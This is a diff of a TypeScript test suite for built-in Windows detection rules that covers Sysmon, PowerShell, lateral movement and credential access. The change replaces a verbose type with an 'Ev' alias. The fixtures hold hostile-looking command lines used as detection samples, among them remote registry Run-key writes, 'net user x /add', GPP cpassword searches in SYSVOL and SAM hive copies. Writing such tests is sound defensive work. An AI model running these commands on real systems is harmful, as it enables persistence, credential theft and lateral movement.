     expectHit(MOD, open(1, `${S32}svchost.exe`, 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Users\\Public\\evil.dll+1a2b|C:\\Windows\\System32\\KERNEL32.DLL+17034'), 'high', 'credential-access');
     expect(titlesOf(open(2, 'C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe', 'C:\\Windows\\SYSTEM32\\ntdll.dll+a5874|C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe+7b4d0'))).not.toContain(MOD);
     const TOR = 'Connection To A Tor Relay Or Proxy Port (Sysmon 3)';
-    const net = (t: number, port: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', Initiated: 'true', DestinationIp: '198.51.100.9', DestinationPort: port, Protocol: 'tcp' });
+    const net = (t: number, port: string): Ev => win(t, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', Initiated: 'true', DestinationIp: '198.51.100.9', DestinationPort: port, Protocol: 'tcp' });
     expectHit(TOR, net(3, '9001'), 'medium', 'command-and-control');
     expect(titlesOf(net(4, '9443'))).not.toContain(TOR);
     const DDNS = 'Dynamic DNS Name Resolved By A Program Other Than A Browser (Sysmon 22)';
-    const dns = (t: number, image: string, name: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '198.51.100.9' });
+    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '198.51.100.9' });
     expectHit(DDNS, dns(5, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'evil.ddns.net'), 'low', 'command-and-control');
     expect(titlesOf(dns(6, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'evil.ddns.net'))).not.toContain(DDNS);
     expect(titlesOf(dns(7, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'ddns.net.example.com'))).not.toContain(DDNS);
@@ -1425,14 +1418,14 @@ describe('built-in Windows rules', () => {
   });
 
   it('Sysmon, process and PowerShell families of classic simulations: credential stores read, script engines and drivers loaded, installers, engines forced, RDP client drives, remote registry, server shells, DoH, ProcDump arguments, SSP logs, DCOM Office; near misses are not', () => {
-    const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
     const CRED = 'Password Manager Or Remote Access Program Memory Read By A Script Or User-Folder Program (Sysmon 10)';
-    const access = (t: number, src: string, target: string): ReturnType<typeof makeEvent> => sysmon(t, 10, { SourceImage: src, TargetImage: target, GrantedAccess: '0x1fffff', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584' });
+    const access = (t: number, src: string, target: string): Ev => sysmon(t, 10, { SourceImage: src, TargetImage: target, GrantedAccess: '0x1fffff', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584' });
     expectHit(CRED, access(1, 'C:\\Users\\bob\\AppData\\Local\\Temp\\k.exe', 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe'), 'medium', 'credential-access');
     expectHit(CRED, access(2, PSH, 'C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe'), 'medium', 'credential-access');
     expect(titlesOf(access(3, 'C:\\Program Files\\Vendor\\av.exe', 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe'))).not.toContain(CRED);
     const ENG = 'Script Engine Loaded By A Program That Is Not A Script Host (Sysmon 7)';
-    const load = (t: number, image: string, dll: string): ReturnType<typeof makeEvent> => sysmon(t, 7, { Image: image, ImageLoaded: `${S32}${dll}`, Signed: 'true' });
+    const load = (t: number, image: string, dll: string): Ev => sysmon(t, 7, { Image: image, ImageLoaded: `${S32}${dll}`, Signed: 'true' });
     expectHit(ENG, load(4, `${S32}rundll32.exe`, 'jscript9.dll'), 'low', 'execution');
     expectHit(ENG, load(5, 'C:\\Users\\bob\\x.exe', 'scrobj.dll'), 'low', 'stealth');
     expect(titlesOf(load(6, `${S32}wscript.exe`, 'vbscript.dll'))).not.toContain(ENG);
@@ -1458,7 +1451,7 @@ describe('built-in Windows rules', () => {
     expectHit(TSS, startup, 'high', 'persistence');
     expect(titlesOf(sysmon(19, 11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\bob\\Documents\\a.docx' }))).not.toContain(TSF);
     const RR = 'Auto-Start Registry Location Written By A Service Host (Sysmon 13)';
-    const reg = (t: number, key: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}svchost.exe`, TargetObject: key, Details: 'C:\\Users\\Public\\u.exe' });
+    const reg = (t: number, key: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}svchost.exe`, TargetObject: key, Details: 'C:\\Users\\Public\\u.exe' });
     expectHit(RR, reg(20, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd'), 'medium', 'lateral-movement');
     expect(titlesOf(reg(21, 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe\\MitigationOptions'))).not.toContain(RR);
     expect(titlesOf(sysmon(22, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', Details: 'x' }))).not.toContain(RR);
@@ -1471,7 +1464,7 @@ describe('built-in Windows rules', () => {
     const DOH3 = 'HTTPS Connection To A Public DNS Resolver Address By A Program Other Than A Browser (Sysmon 3)';
     expectHit(DOH, sysmon(27, 22, { Image: 'C:\\Users\\bob\\a.exe', QueryName: 'dns.google', QueryResults: '8.8.8.8;' }), 'low', 'command-and-control');
     expect(titlesOf(sysmon(28, 22, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', QueryName: 'dns.google' }))).not.toContain(DOH);
-    const conn = (t: number, image: string, port: string): ReturnType<typeof makeEvent> => sysmon(t, 3, { Image: image, DestinationIp: '1.1.1.1', DestinationPort: port, Protocol: 'tcp', Initiated: 'true' });
+    const conn = (t: number, image: string, port: string): Ev => sysmon(t, 3, { Image: image, DestinationIp: '1.1.1.1', DestinationPort: port, Protocol: 'tcp', Initiated: 'true' });
     expectHit(DOH3, conn(29, 'C:\\Users\\bob\\a.exe', '443'), 'low', 'command-and-control');
     expect(titlesOf(conn(30, `${S32}svchost.exe`, '443'))).not.toContain(DOH3);
     expect(titlesOf(conn(31, 'C:\\Users\\bob\\a.exe', '53'))).not.toContain(DOH3);
@@ -1493,9 +1486,9 @@ describe('built-in Windows rules', () => {
   });
 
   it('PowerShell behaviours in all three logs (script block 4104, module logging 4103, classic pipeline 800): each family fires on its text in each and not on a near miss', () => {
-    const module = (t: number, text: string): ReturnType<typeof makeEvent> =>
+    const module = (t: number, text: string): Ev =>
       win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` });
-    const classic = (t: number, text: string): ReturnType<typeof makeEvent> =>
+    const classic = (t: number, text: string): Ev =>
       win(t, 'Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } });
     const families: [string, string, string, string][] = [
       // [title without the log suffix, level, tactic, firing text], near miss after
@@ -1550,7 +1543,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('remote targets of at and reg, shells under a Windows-folder service binary, logging service keys deleted, DNS from temporary folders, ping sweeps; near misses are not', () => {
-    const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
     const RT = 'Job Scheduled Or Registry Changed On Another Host From The Command Line';
     expectHit(RT, proc(1, `${S32}at.exe`, 'at \\\\ws02 10:00 C:\\Windows\\Temp\\a.bat'), 'medium', 'lateral-movement');
     expectHit(RT, sysmon1(2, `${S32}reg.exe`, 'reg add \\\\ws02\\HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\Windows\\Temp\\a.exe'), 'medium', 'lateral-movement');
@@ -1560,7 +1553,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon1(5, `${S32}cmd.exe`, '"cmd"', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(ROOT);
     expect(titlesOf(sysmon1(6, `${S32}cmd.exe`, '"cmd"', { ParentImage: `${S32}svchost.exe` }))).not.toContain(ROOT);
     const DEL = 'Sysmon Or Event Log Service Key Deleted (Sysmon 12)';
-    const del = (t: number, key: string, image = `${S32}reg.exe`): ReturnType<typeof makeEvent> => sysmon(t, 12, { EventType: 'DeleteKey', Image: image, TargetObject: key });
+    const del = (t: number, key: string, image = `${S32}reg.exe`): Ev => sysmon(t, 12, { EventType: 'DeleteKey', Image: image, TargetObject: key });
     expectHit(DEL, del(7, 'HKLM\\System\\CurrentControlSet\\Services\\SysmonDrv'), 'high', 'defense-impairment');
     expect(titlesOf(del(8, 'HKLM\\System\\CurrentControlSet\\Services\\EventLog\\State\\RunHistory', `${S32}svchost.exe`))).not.toContain(DEL);
     expect(titlesOf(del(9, 'HKLM\\System\\CurrentControlSet\\Services\\SysmonDrv', 'C:\\Windows\\Sysmon64.exe'))).not.toContain(DEL);
@@ -1568,7 +1561,7 @@ describe('built-in Windows rules', () => {
     expectHit(TMP, sysmon(10, 22, { Image: 'C:\\Users\\bob\\Downloads\\payload.exe', QueryName: 'c2.example.net' }), 'informational', 'command-and-control');
     expect(titlesOf(sysmon(11, 22, { Image: 'C:\\Program Files\\Vendor\\app.exe', QueryName: 'c2.example.net' }))).not.toContain(TMP);
     const SWEEP = 'Ping Sweep Of Many Hosts';
-    const pings = (host: string, n: number): ReturnType<typeof makeEvent>[] => Array.from({ length: n }, (_, i) => proc(20 + i, `${S32}PING.EXE`, `ping -n 1 10.0.0.${i + 1}`, {}, host));
+    const pings = (host: string, n: number): Ev[] => Array.from({ length: n }, (_, i) => proc(20 + i, `${S32}PING.EXE`, `ping -n 1 10.0.0.${i + 1}`, {}, host));
     expect(hits(pings('SRV01', 12)).get(SWEEP)).toEqual({ level: 'medium', tactics: ['discovery'] });
     const few = hits(pings('SRV01', 5));
     expect(few.has(SWEEP)).toBe(false);
@@ -1576,18 +1569,18 @@ describe('built-in Windows rules', () => {
   });
 
   it('password managers loading user-folder DLLs, Update Orchestrator commands, registry symbolic links, KeeThief; near misses are not', () => {
-    const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
     const KP = 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe';
     const DLL = 'Unsigned DLL From A User Folder Loaded By A Password Manager Or Remote Access Program (Sysmon 7)';
     expectHit(DLL, sysmon(1, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\Downloads\\BootstrapDLL.dll', Signed: 'false' }), 'medium', 'credential-access');
     expect(titlesOf(sysmon(2, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\AppData\\Local\\KeePass\\PluginCache\\abc\\Plugin.dll', Signed: 'false' }))).not.toContain(DLL);
     expect(titlesOf(sysmon(3, 7, { Image: KP, ImageLoaded: 'C:\\Users\\bob\\AppData\\Local\\x.dll', Signed: 'true' }))).not.toContain(DLL);
     const USO = 'Update Orchestrator Scheduler Command Written By Another Program (Sysmon 13)';
-    const uso = (t: number, image: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\cmdLine', Details: 'cmd.exe /c net user x /add' });
+    const uso = (t: number, image: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\WindowsUpdate\\Orchestrator\\UScheduler\\51999\\cmdLine', Details: 'cmd.exe /c net user x /add' });
     expectHit(USO, uso(4, 'C:\\Users\\bob\\x.exe'), 'high', 'privilege-escalation');
     expect(titlesOf(uso(5, `${S32}svchost.exe`))).not.toContain(USO);
     const LNK = 'Registry Symbolic Link Created (Sysmon 13)';
-    const link = (t: number, image: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\x\\SymbolicLinkValue', Details: 'Binary Data' });
+    const link = (t: number, image: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\x\\SymbolicLinkValue', Details: 'Binary Data' });
     expectHit(LNK, link(6, 'C:\\Users\\bob\\x.exe'), 'low', 'privilege-escalation');
     expect(titlesOf(link(7, `${S32}smss.exe`))).not.toContain(LNK);
     expect(titlesOf(link(8, `${S32}csrss.exe`))).not.toContain(LNK);
@@ -1595,7 +1588,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('tools of a public lateral-movement catalogue (remote command clients, WinRM scripts, task shells, atexec output, dumping tools, password recovery, net group/user, service stagers, ticket caches, listeners, GPP passwords); near misses are not', () => {
-    const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
     const CLI = 'Shell Command Passed With A Network Address To A User-Folder Program';
     expectHit(CLI, sysmon1(1, 'C:\\Users\\bob\\Desktop\\bxc.exe', 'bxc.exe 10.0.0.12:8080 "cmd /c dir"'), 'low', 'execution');
     expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\tools\\putty.exe', 'putty.exe -ssh admin@ws02 -P 22'))).not.toContain(CLI);
@@ -1642,14 +1635,14 @@ describe('built-in Windows rules', () => {
     expectHit(CC, sysmon(32, 11, { Image: 'C:\\Users\\bob\\Desktop\\k.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\TGT_bob@corp.local.ccache' }), 'medium', 'credential-access');
     expect(titlesOf(sysmon(33, 11, { Image: 'C:\\Program Files\\MIT\\Kerberos\\bin\\kinit.exe', TargetFilename: 'C:\\Users\\bob\\krb5cc_bob.ccache' }))).not.toContain(CC);
     const LIS = 'Inbound Connection From Another Host To A Program In A User-Writable Folder On A Service Port (Sysmon 3)';
-    const inbound = (t: number, image: string, src: string): ReturnType<typeof makeEvent> => sysmon(t, 3, { Image: image, Initiated: 'false', SourceIp: src, DestinationIp: '10.0.0.7', DestinationPort: '80', Protocol: 'tcp' });
+    const inbound = (t: number, image: string, src: string): Ev => sysmon(t, 3, { Image: image, Initiated: 'false', SourceIp: src, DestinationIp: '10.0.0.7', DestinationPort: '80', Protocol: 'tcp' });
     expectHit(LIS, inbound(34, 'C:\\Users\\bob\\Desktop\\tools\\fakewpad.exe', '10.0.0.9'), 'informational', 'credential-access');
     expect(titlesOf(inbound(35, 'C:\\Users\\bob\\Desktop\\tools\\fakewpad.exe', '127.0.0.1'))).not.toContain(LIS);
     expect(titlesOf(inbound(36, 'C:\\Program Files\\nginx\\nginx.exe', '10.0.0.9'))).not.toContain(LIS);
     expectHit('Built-in Discovery Command', proc(37, `${S32}dcdiag.exe`, 'dcdiag /test:dns'), 'informational', 'discovery');
-    const module = (t: number, text: string): ReturnType<typeof makeEvent> =>
+    const module = (t: number, text: string): Ev =>
       win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` });
-    const classic = (t: number, text: string): ReturnType<typeof makeEvent> =>
+    const classic = (t: number, text: string): Ev =>
       win(t, 'Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } });
     const gpp = 'Get-ChildItem -Path \\\\corp.local\\SYSVOL -Recurse -Include Groups.xml,Services.xml | Select-String -Pattern cpassword';
     expectHit('Group Policy Preference Passwords Searched From PowerShell (script block 4104)', block(38, gpp), 'medium', 'credential-access');
@@ -1659,9 +1652,9 @@ describe('built-in Windows rules', () => {
   });
 
   it('service programs in the Windows folder root or its Temp folder, admin shares on command lines, NTLM hashes on command lines, Remote Desktop session programs, hive copies written; near misses are not', () => {
-    const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
     const REG = 'Service Registered With Its Program In The Windows Folder Root Or Its Temp Folder (Sysmon 13)';
-    const image = (t: number, details: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\kQzT\\ImagePath', Details: details });
+    const image = (t: number, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\kQzT\\ImagePath', Details: details });
     expectHit(REG, image(1, '%SystemRoot%\\kQzTbNwE.exe'), 'medium', 'lateral-movement');
     expectHit(REG, image(2, 'C:\\Windows\\PSEXESVC.exe'), 'medium', 'execution');
     expectHit(REG, image(22, 'C:\\Windows\\Temp\\upd.exe'), 'medium', 'lateral-movement');
@@ -1692,7 +1685,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(29, `${S32}cmd.exe`, 'cmd /c dir \\\\fileserver\\projects$\\x'))).not.toContain(SHARE);
     expect(titlesOf(proc(30, `${S32}cmd.exe`, 'cmd /c type \\\\?\\C:\\Users\\bob\\a.txt'))).not.toContain(SHARE);
     const HIVE = 'Registry Hive Copy Written Outside The Windows Folder (Sysmon 11)';
-    const file = (t: number, image: string, target: string): ReturnType<typeof makeEvent> => sysmon(t, 11, { Image: image, TargetFilename: target });
+    const file = (t: number, image: string, target: string): Ev => sysmon(t, 11, { Image: image, TargetFilename: target });
     expectHit(HIVE, file(17, `${S32}reg.exe`, 'C:\\Users\\bob\\AppData\\Local\\Temp\\sam.save'), 'medium', 'credential-access');
     expectHit(HIVE, file(18, `${S32}ntdsutil.exe`, 'C:\\Windows\\Temp\\ifm\\registry\\SYSTEM'), 'medium', 'credential-access');
     expectHit(HIVE, file(19, `${S32}esentutl.exe`, 'C:\\ProgramData\\SAM'), 'medium', 'credential-access');
@@ -1721,10 +1714,8 @@ describe('built-in Windows rules', () => {
 // host's side of one tool) must be tagged by the default set with a technique of the tool's tactic (any level).
 describe('tool footprints of a public lateral-movement catalogue through the default set', () => {
   interface Unit { name: string; tactics: string[]; events: Ev[] }
-  type Ev = ReturnType<typeof makeEvent>;
   let t = 0;
-  const win2 = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'WS01'): Ev =>
-    makeEvent({ time: at(t++), host, action: 'windows.event', object: { type: 'log', name: channel }, attributes: { eventId, provider, channel, data } });
+  const win2 = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'WS01'): Ev => windowsEvent(t++, channel, provider, eventId, data, host);
   const SM = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
   const sm = (id: number, d: JsonRecord): Ev => win2(SM[0], SM[1], id, d);
   const S32 = 'C:\\Windows\\System32\\';
